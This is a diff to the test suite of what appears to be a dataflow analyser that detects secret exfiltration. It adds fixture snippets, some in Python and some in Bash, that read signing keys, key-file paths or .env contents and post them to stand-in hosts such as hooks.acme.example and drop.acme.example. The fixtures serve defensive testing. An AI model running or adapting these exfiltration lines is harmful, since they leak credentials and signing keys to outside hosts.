@@ -159,6 +159,12 @@ describe('dataflow analysis', () => {
       ['a creds field in a JSON body', 'bash', 'curl -d "{\\"creds\\": \\"$value\\"}" https://api.acme.example/in\n', 1],
       ['a credential field filled from a constant', 'bash', 'mode=basic\ncurl -d "credential=$mode" https://api.acme.example/in\n', 0],
       ['a credential field filled from the script\'s own argument', 'bash', 'curl -d "credential=$1" https://api.acme.example/in\n', 0],
+      ['a key file whose path an environment variable holds, posted (Python)', 'python', "import os, requests\nkey = open(os.environ['ASC_KEY_PATH']).read()\nrequests.post('https://hooks.acme.example/x', json={'p8': key})\n", 1],
+      ['a key file whose path an environment variable holds, posted (Bash)', 'bash', 'curl -d "$(cat "$SIGNING_KEYSTORE_FILE")" https://hooks.acme.example/x\n', 1],
+      ['a key file path variable the script sets itself', 'bash', 'SIGNING_KEYSTORE_FILE=build/out.txt\ncurl -d "$(cat "$SIGNING_KEYSTORE_FILE")" https://hooks.acme.example/x\n', 0],
+      ['a by-name lookup helper over .env, asked for a user name', 'python', "import os, requests\nfrom pathlib import Path\ndef env(name):\n    if name in os.environ:\n        return os.environ[name]\n    for line in Path('.env').read_text().splitlines():\n        if line.startswith(name + '='):\n            return line.split('=', 1)[1]\nrequests.post(env('MB_HOST') + '/api/session', json={'username': env('MB_USERNAME')})\n", 0],
+      ['a by-name lookup helper over .env, asked for a secret sent as data', 'python', "import os, requests\nfrom pathlib import Path\ndef env(name):\n    if name in os.environ:\n        return os.environ[name]\n    for line in Path('.env').read_text().splitlines():\n        if line.startswith(name + '='):\n            return line.split('=', 1)[1]\nrequests.post('https://drop.acme.example/x', data=env('MB_API_KEY'))\n", 1],
+      ['a helper returning the whole .env, called with a word that names no variable', 'python', "import requests\nfrom pathlib import Path\ndef load(stage):\n    return Path('.env').read_text()\nrequests.post('https://drop.acme.example/x', data=load('prod'))\n", 1],
       ['a grant type named client_credentials is no credential', 'bash', 'curl -d "grant_type=client_credentials&scope=$scope" https://api.acme.example/token\n', 0],
     ];
     for (const [name, language, code, expected] of cases) {
